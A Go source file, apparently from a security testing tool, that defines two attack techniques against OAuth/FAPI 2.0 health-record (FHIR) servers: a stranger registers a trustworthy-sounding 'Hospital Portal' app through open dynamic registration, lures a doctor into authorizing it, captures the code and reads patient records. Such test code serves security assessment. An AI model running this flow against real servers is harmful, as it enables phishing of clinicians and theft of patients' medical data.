package attacker

import (
	"context"
	"net/http"
)

// A stranger registers an app of his own and has people let it in. What differs between the rows is how
// the app authenticates.
func openRegistration(id, variant, method, title, story string, reads []string, beyond string, against ...Trait) struct{} {
	return register(id, Technique{
		Variant: variant, Title: title, Story: story, Reads: reads, Beyond: beyond, Against: against,
		Run: func(ctx context.Context, g Ground) error {
			meta, err := discover(ctx, g, g.Target().Issuer)
			if err != nil {
				return err
			}
			r, err := registerClient(ctx, g, meta.RegistrationEndpoint, appMetadata(g, "Hospital Portal", method))
			if err != nil {
				return err
			}
			a, err := newApp(ctx, g, r.credentials(g, method))
			if err != nil {
				return err
			}
			return a.invite(ctx)
		},
	})
}

// invite lures somebody into signing in to the app and letting it read, and reads a record with what
// that yields.
func (a *app) invite(ctx context.Context) error {
	var code string
	a.g.Serve(a.g.Target().OwnHost, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if c := answerOf(r.URL.String()).Get("code"); c != "" {
			code = c
		}
		_, _ = w.Write([]byte("Thank you."))
	}))
	z, err := a.authorize(ctx, "openid user/*.rs", a.g.Target().FHIRBase, nil)
	if err != nil {
		return err
	}
	if err := a.g.Lure(z.url); err != nil {
		return err
	}
	if code == "" {
		return ErrStopped
	}
	t, err := a.redeem(ctx, code, z, a.g.Target().FHIRBase)
	if err != nil {
		return err
	}
	_, err = a.read(ctx, record(a.g, stranger(a.g)), t)
	return err
}

var _ = openRegistration("S-01", "trusted-name", "private_key_jwt", "An app with a trustworthy name, registered by a stranger",
	"Anybody may register an app. The thief calls his own Hospital Portal, gives it a key, and sends a doctor the link. She signs in where she "+
		"always does, reads the name and lets it in; the app then reads what she may read.",
	[]string{"RFC 7591 s5", "RFC 9700 s4.16"},
	"Registration is no part of FAPI 2.0. The client is a proper one and the person agreed: what is wrong is that nobody asked who registers.")

var _ = openRegistration("S-05", "weak-method", "client_secret_post", "An app registered to authenticate with a secret, for tokens bound to nothing",
	"The thief's app asks for a shared secret instead of a key when it registers, and for no binding. If the server agrees, its tokens are "+
		"worth something to whoever finds them.",
	[]string{"FAPI 2.0 SP 5.3.2.1-4, 5.3.2.1-6", "RFC 9449 s5.2"}, "")
